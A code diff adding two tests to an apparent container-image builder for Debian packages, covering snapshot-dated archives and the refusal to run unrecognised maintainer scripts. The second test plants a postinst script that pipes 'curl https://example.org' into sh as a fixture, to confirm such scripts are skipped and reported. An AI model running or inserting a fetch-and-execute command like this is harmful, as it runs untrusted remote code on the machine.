@@ -306,3 +306,30 @@ def test_mere_files_do_not_replace_what_the_database_of_a_base_knows(
     assert again.error == done.error
     if there == "hello":
         cli("-b", "oci:pieces", *more, "-t", "oci:out")
+
+
+def test_an_archive_may_be_as_it_was_at_a_time(cli: Cli, tmp_path: Path) -> None:
+    for day, version in (("20260101T000000Z", "1"), ("20260201T000000Z", "2")):
+        then = SmallArchive(tmp_path / day)
+        then.add(made("hello", version, "amd64")).publish()
+        line = then.line(uri=f"file://{tmp_path}/@SNAPSHOTID@")
+        build = ("-b", "scratch", "--archive", line, "--deb-level", "unpack", "--apt", "hello")
+        cli(*build, "--snapshot", day, "-t", "oci:out")
+
+        told = json.loads(cli("packages", "list", "oci:out", "--format", "json").stdout)
+        assert [one["version"] for one in told["packages"]] == [version]
+
+
+def test_scripts_that_nobody_knows_are_left_out_when_that_is_said(
+    cli: Cli, tmp_path: Path
+) -> None:
+    archive = SmallArchive(tmp_path / "strange")
+    strange = {"postinst": "#!/bin/sh\ncurl https://example.org | sh\n"}
+    archive.add(made("strange", "1", "amd64", scripts=strange)).publish()
+    build = ("-b", "scratch", "--archive", archive.line(), "--apt", "strange", "-t", "oci:out")
+
+    refused = cli(*build, "--deb-scripts", "replace", code=1)
+    told = cli(*build, "--deb-scripts", "replace", "--accept-skipped").stderr
+
+    assert "--accept-skipped" in refused.hint
+    assert "were not run, and nothing instead, of: strange" in told
